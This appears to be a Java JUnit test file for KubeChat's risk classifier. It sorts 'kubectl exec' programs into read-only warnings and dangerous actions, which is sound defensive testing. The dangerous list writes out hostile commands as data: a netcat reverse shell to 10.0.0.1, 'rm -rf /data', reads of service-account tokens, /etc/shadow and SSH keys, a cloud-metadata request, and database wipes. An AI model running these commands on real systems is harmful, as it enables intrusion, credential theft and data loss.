package dev.kubechat.risk;

import static dev.kubechat.kubectl.KubectlFixture.reader;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.Set;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The rules that come with KubeChat, on what an exec starts. */
class ProgramPolicyTest {

    private static final RiskContext STAGING = new RiskContext("staging", false, Set.of());

    private final Classifier classifier = new Classifier();

    private Level level(String program) {
        return classifier
                .classify(reader().read("kubectl exec web-0 -- " + program), STAGING)
                .level();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "ls -l",
                "/bin/ls -l",
                "env",
                "env LC_ALL=C ls",
                "timeout 5s ls",
                "busybox ps",
                "nice time ls",
                "cat /etc/hosts",
                "tail -n 5 /var/log/delete.log",
                "find /data -name core",
                "date +%s",
                "hostname -i",
                "nc -zv db 5432",
                "sort -r names",
                "sysctl net.ipv4.ip_forward",
                "python -V",
                "node -v",
                "bash --version",
                "rm --version",
                "mount",
                "nginx -t",
                "ip addr",
                "ip -4 route show",
                "curl -s localhost/health",
                "curl -X GET localhost/orders",
                "curl -sXHEAD localhost",
                "curl --request OPTIONS localhost",
                "curl -so /dev/null -w '%{http_code}' localhost",
                "curl -D - -o - localhost",
                "wget -qO- localhost",
                "wget -O /dev/null localhost",
                "wget --spider localhost",
                "psql -U app -tAc 'select 1'",
                "psql --command='show all'",
                "psql -c 'select 1; select 2;'",
                "psql -c '\\dt'",
                "psql -l",
                "psql -U app -l",
                "psql -h db --list",
                "redis-cli --scan --pattern del:*",
                "mongosh --eval 'rs.status().ok'",
                "dpkg -l",
                "rpm -qa",
                "sleep 5",
                "vault token lookup",
                "vault operator raft list-peers",
                "mysql -uapp -e 'show tables'",
                "pg_dump shop",
                "mysqldump shop",
                "redis-cli -h localhost -n 2 GET cart",
                "redis-cli config get maxmemory",
                "redis-cli --bigkeys",
                "etcdctl member list",
                "etcdctl --endpoints https://etcd:2379 endpoint health",
                "kafka-topics.sh --bootstrap-server kafka:9092 --topic a --describe",
                "rabbitmqctl list_queues name",
                "nodetool -h localhost status",
                "mongosh --eval 'rs.status()'",
                "openssl x509 -in tls.crt -noout",
                "tar tf backup.tar",
                "jcmd 1 Thread.print",
                "sed -n 3,9p notes",
                "awk '{print $1, $NF}' notes",
                "whatever status",
                "whatever --version"
            })
    void warnsOfAProgramThatOnlyReads(String program) {
        assertThat(level(program)).isEqualTo(Level.WARNING);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "sh -c 'ls'",
                "/bin/bash",
                "bash -v",
                "python -v",
                "env sh",
                "env -S 'sh -c ls'",
                "env LD_PRELOAD=/tmp/x.so ls",
                "env PATH=/tmp ls",
                "timeout -k 5 ls",
                "timeout 5 sh",
                "busybox sh",
                "busybox",
                "time time time time time ls",
                "/tmp/ls",
                "./ls",
                "xargs ls",
                "rm -rf /data",
                "find / -delete",
                "find / -execdir id",
                "date -s 12:00",
                "date --set=12:00",
                "hostname web-9",
                "nc -lvp 4444",
                "nc -e /bin/sh 10.0.0.1 4444",
                "sort -o /etc/passwd names",
                "uniq names /etc/passwd",
                "sysctl -w vm.swappiness=1",
                "ip link set eth0 down",
                "mount /dev/sda /mnt",
                "nginx -s stop",
                "curl -X POST localhost",
                "curl -XDELETE localhost",
                "curl -sSXPUT localhost",
                "curl --request=PATCH localhost",
                "curl -d a=b localhost",
                "curl -sdXGET localhost",
                "curl --json '{}' localhost",
                "curl -fsSLo /usr/bin/ls localhost",
                "curl gopher://redis:6379/_FLUSHALL",
                "curl http://169.254.169.254/latest/meta-data",
                "wget -qO /tmp/x localhost",
                "wget --post-data=a localhost",
                "psql",
                "psql -U app -l -f wipe.sql",
                "psql -c $'select 1\\ninto x'",
                "ls $'a\\nb'",
                "psql -l -c 'drop table t'",
                "psql -U app -l -o /tmp/x",
                "redis-cli --scan --eval x.lua",
                "mongosh --eval 'rs.status().ok; db.dropDatabase()'",
                "mongosh --eval 'rs.status().constructor()'",
                "dpkg -l -i x.deb",
                "rpm -qa --pipe sh",
                "vault operator raft remove-peer a",
                "psql -c",
                "psql -c ''",
                "psql -f wipe.sql",
                "psql -fwipe.sql -c 'select 1'",
                "psql -c 'select 1; drop table a'",
                "psql -c 'select * into b from a'",
                "psql -c 'select pg_terminate_backend(7)'",
                "psql -c '\\! id'",
                "psql -c 'with d as (delete from a returning 1) select 1'",
                "mysql -e 'system id'",
                "pg_dump -f /tmp/x shop",
                "redis-cli",
                "redis-cli flushall",
                "redis-cli set info 1",
                "redis-cli config set maxmemory 1",
                "redis-cli --eval wipe.lua get",
                "etcdctl del list",
                "kafka-topics.sh --list --delete --topic a",
                "rabbitmqctl purge_queue a",
                "mongosh --eval 'db.dropDatabase()'",
                "openssl x509 -in a -out /etc/passwd",
                "tar xf backup.tar",
                "tar tf a --checkpoint-action=exec=id",
                "jcmd 1 GC.run",
                "sed -i s/a/b/ notes",
                "awk 'BEGIN{system(1)}'",
                "java -jar wipe.jar status",
                "kubectl get secrets",
                "whatever",
                "whatever drop status",
                "whatever status --delete",
                "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
                "cat /run//secrets/kubernetes.io/x",
                "cat /etc/shadow",
                "cat /root/.ssh/id_rsa",
                "grep -r . /var/run"
            })
    void callsAnyOtherDangerous(String program) {
        assertThat(level(program)).isEqualTo(Level.DANGEROUS);
    }

    @ParameterizedTest
    @ValueSource(strings = {"exec web-0 ls", "exec -it web-0 -c app -- ls", "exec deploy/web env"})
    void findsTheProgramWhereverItStands(String line) {
        assertThat(classifier.classify(reader().read("kubectl " + line), STAGING).level())
                .isEqualTo(Level.WARNING);
    }
}
